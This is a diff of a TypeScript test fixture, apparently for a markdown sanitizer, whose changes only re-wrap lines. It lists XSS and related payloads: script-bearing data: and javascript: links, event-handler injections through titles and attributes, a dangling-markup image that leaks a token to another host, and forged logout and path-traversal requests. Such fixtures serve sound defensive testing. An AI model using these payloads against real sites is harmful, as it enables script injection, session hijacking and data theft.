@@ -51,7 +51,8 @@ export const otherLinks: Family = {
     drawing: ['a drawing as an address', ({ run }) => `[press me](data:image/svg+xml,<svg/onload=${run}>)`],
     xhtml: [
       'a page in another form',
-      ({ run }) => `[press me](data:application/xhtml+xml,<script/xmlns='http://www.w3.org/1999/xhtml'>${run}</script>)`,
+      ({ run }) =>
+        `[press me](data:application/xhtml+xml,<script/xmlns='http://www.w3.org/1999/xhtml'>${run}</script>)`,
     ],
     blob: ['a blob of this origin', ({ app }) => `[press me](blob:${app}0b1c2d3e-0000-4000-8000-000000000000)`],
     fileSystem: ['a file of this origin', ({ app }) => `[press me](filesystem:${app}temporary/page.html)`],
@@ -63,7 +64,10 @@ export const otherLinks: Family = {
     encodedCall: ['a call of this server, encoded', () => '[press me](/%61pi/auth/logout?canary)'],
     climbing: ['a path that climbs', () => '[press me](/settings/../api/auth/logout?canary)'],
     title: ['a title that ends its attribute', ({ run }) => `[press me](https://example.org '" onmouseover="${run}')`],
-    quoted: ['a title with escaped quotation marks', ({ run }) => `[press me](https://example.org "\\" onfocus=${run} \\"")`],
+    quoted: [
+      'a title with escaped quotation marks',
+      ({ run }) => `[press me](https://example.org "\\" onfocus=${run} \\"")`,
+    ],
     inside: ['an address that ends its attribute', ({ run }) => `[press me](https://example.org/"onmouseover="${run})`],
     words: ['tags as the words of a link', ({ run }) => `[<img src=x onerror=${run}>](https://example.org)`],
     double: ['a link in a link', ({ run }) => `[[press me](javascript:${run})](https://example.org)`],
@@ -80,7 +84,8 @@ export const pictures: Family = {
     page: ['a page as a picture', ({ run }) => `![x](data:text/html,<script>${run}</script>)`],
     drawing: [
       'a drawing with a script',
-      ({ run }) => `![x](data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script></svg>`)})`,
+      ({ run }) =>
+        `![x](data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script></svg>`)})`,
     ],
     packed: [
       'a drawing with a page in it',
@@ -96,7 +101,10 @@ export const pictures: Family = {
     reference: ['a picture of another host by reference', ({ at }) => `![x]\n\n[x]: ${at}`],
     dangling: ['an address that swallows what follows', ({ at }) => `![x](${at}?said=\n\nThe token is 1234.)`],
     ownCall: ['a call of this server', ({ app }) => `![x](${app}api/auth/logout?canary)`],
-    otherShare: ['the picture of another share', () => `![x](/share/${'0'.repeat(32)}/pictures/${'1'.repeat(64)}?canary)`],
+    otherShare: [
+      'the picture of another share',
+      () => `![x](/share/${'0'.repeat(32)}/pictures/${'1'.repeat(64)}?canary)`,
+    ],
     blob: ['a blob that belongs to somebody else', ({ app }) => `![x](blob:${app}1)`],
     stored: ['a picture in the storage of the reader', () => '![x](parley-blob:../../secret)'],
   },
